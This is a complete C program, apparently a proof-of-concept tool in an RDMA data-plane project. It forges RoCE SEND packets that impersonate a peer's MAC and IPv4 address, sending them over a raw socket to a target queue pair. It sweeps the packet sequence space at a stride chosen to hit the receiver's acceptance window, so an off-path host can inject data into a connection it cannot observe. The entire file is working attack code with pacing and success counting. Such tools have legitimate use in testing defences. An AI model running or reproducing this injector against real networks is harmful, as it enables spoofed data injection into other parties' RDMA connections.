/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Sends SENDs in the name of a peer to one of its connections, from a host that sees none of its packets:
 *
 *   net-inject INTERFACE MAC ADDRESS PEER-ADDRESS QPN
 *
 * The packets go to the queue pair of the data plane with that MAC and IPv4 address. They cover all PSNs at a
 * stride that hits the range accepted ahead of the expected PSN, from changing UDP ports.
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "dataplane/wire/wire.h"

#define FRAME_MAX 256u
#define STRIDE 250u
#define BURST 200u
#define PAYLOAD "forged by a stranger"

static struct wire_path path = {.ttl = 64, .src_mac = {2, 0x11, 0x22, 0x33, 0x44, 0x55}};

static uint32_t
forge_send(uint32_t qpn, uint32_t psn, uint8_t *frame)
{
	const struct wire_build build = {.opcode = WIRE_SEND_ONLY,
					 .qpn = qpn,
					 .psn = psn & 0xffffff,
					 .ack_request = true,
					 .payload_len = sizeof(PAYLOAD) - 1};
	struct wire_template template;
	uint32_t len;

	path.udp_src_port = (uint16_t)(0xc000 + psn / STRIDE % 0x4000);
	wire_template_init(&template, &path);
	memcpy(wire_build(&template, &build, frame), PAYLOAD, build.payload_len);
	len = wire_frame_len(&template, build.opcode, build.payload_len);
	wire_seal(frame, len);
	return len;
}

/* Returns false if `text` is no address. */
static bool
read_address(const char *text, struct wire_addr *addr)
{
	addr->gid[10] = addr->gid[11] = 0xff;
	return inet_pton(AF_INET, text, &addr->gid[12]) == 1;
}

int
main(int argc, char **argv)
{
	struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	const struct timespec pause = {.tv_nsec = 2000000};
	const struct ether_addr *mac = argc == 6 ? ether_aton(argv[2]) : NULL;
	uint8_t frame[FRAME_MAX];
	uint32_t qpn, sent = 0;
	int fd;

	if (mac == NULL || !read_address(argv[3], &path.dst) || !read_address(argv[4], &path.src))
		return 2;
	qpn = (uint32_t)strtoul(argv[5], NULL, 0);
	memcpy(path.dst_mac, mac, sizeof(path.dst_mac));
	wire_init();
	link.sll_ifindex = (int)if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&link, sizeof(link)) != 0) {
		perror(argv[1]);
		return 1;
	}
	for (uint32_t psn = 0; psn < 1u << 24; psn += STRIDE) {
		uint32_t len = forge_send(qpn, psn, frame);

		sent += send(fd, frame, len, 0) == (ssize_t)len;
		if (sent % BURST == 0)
			nanosleep(&pause, NULL);
	}
	printf("%u forged requests to queue pair %#x\n", sent, qpn);
	close(fd);
	return sent < (1u << 24) / STRIDE / 2;
}
